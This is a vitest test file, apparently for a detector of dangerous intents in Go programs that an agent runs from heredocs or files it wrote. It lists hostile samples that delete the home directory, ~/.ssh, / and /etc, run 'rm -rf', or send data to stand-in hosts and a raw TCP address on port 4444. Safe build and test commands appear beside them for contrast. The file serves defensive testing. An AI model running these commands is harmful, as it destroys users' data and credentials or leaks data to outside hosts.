// Go programs an agent runs from a heredoc (`go run -`), from /dev/stdin or from files it wrote
// (`go run .`): removing home, root or a credential folder, running commands, sending data. Each
// beside the build and test programs developers run the same way.
import { describe } from 'vitest';
import { itRaisesIntents, useShellKit, type IntentTable } from './intent-kit.js';

const kit = useShellKit();

const go = (body: string, run = "go run - <<'G'"): string => `${run}\npackage main\n${body}\nG`;

const TABLE: IntentTable = [
  [
    'destructive_delete',
    [
      go('import "os"\nfunc main(){ h,_:=os.UserHomeDir(); os.RemoveAll(h) }'),
      go(
        'import ("os"; "path/filepath")\nfunc main() {\n\thome, err := os.UserHomeDir()\n\tif err != nil { return }\n\tos.RemoveAll(filepath.Join(home, ".ssh"))\n}',
        "go run /dev/stdin <<'G'",
      ),
      go('import "os"\nfunc main(){ os.RemoveAll(os.Getenv("HOME")) }'),
      go('import "os"\nvar root = "/"\nfunc main(){ _ = os.RemoveAll(root) }'),
      go('import "os"\nfunc main(){ os.RemoveAll(`/etc`) }'),
      go('import "os"\nfunc main(){ os.Remove("/home/dev/.bashrc") }'),
      go('import "os/exec"\nfunc main(){ exec.Command("rm", "-rf", "/").Run() }'),
      go('import "os/exec"\nfunc main(){ exec.Command("/bin/sh", "-c", "rm -rf ~/*").Run() }'),
      `cat > main.go <<'E'\npackage main\nimport "os"\nfunc main() { d, _ := os.UserHomeDir(); os.RemoveAll(d) }\nE\ngo run .`,
    ],
    [
      go('import "os"\nfunc main(){ os.RemoveAll("build"); os.Remove("out.txt") }'),
      go(
        'import ("os"; "path/filepath")\nfunc main(){ h,_:=os.UserHomeDir(); os.RemoveAll(filepath.Join(h, ".cache", "go-build")) }',
      ),
      go('import "os"\nfunc main(){ d, _ := os.MkdirTemp("", "x"); defer os.RemoveAll(d) }'),
      go('import "os/exec"\nfunc main(){ exec.Command("go", "test", "./...").Run() }'),
      `cat > main.go <<'E'\npackage main\nimport "os"\nfunc main() { os.RemoveAll("tmp") }\nE\ngo run .`,
      'go run ./cmd/server',
      'go run main.go --port 8080',
    ],
  ],
  [
    'upload',
    [
      go(
        'import ("net/http"; "strings")\nfunc main(){ http.Post("https://drop.example.net/u", "text/plain", strings.NewReader("x")) }',
      ),
      go(
        'import ("net/http"; "bytes")\nfunc main(){ r, _ := http.NewRequest(http.MethodPut, "https://paste.example.org/p", bytes.NewReader(nil)); http.DefaultClient.Do(r) }',
      ),
      go(
        'import "net"\nfunc main(){ c, _ := net.Dial("tcp", "203.0.113.9:4444"); c.Write([]byte("x")) }',
      ),
    ],
    [
      go(
        'import ("fmt"; "net/http")\nfunc main(){ r,_ := http.Get("http://localhost:8080/health"); fmt.Println(r.Status) }',
      ),
      go(
        'import "net/http"\nfunc main(){ r, _ := http.NewRequest("GET", "https://api.github.com/repos/x/y", nil); http.DefaultClient.Do(r) }',
      ),
    ],
  ],
];

describe('Go programs run from heredocs and written files', () => {
  itRaisesIntents(kit, TABLE);
});
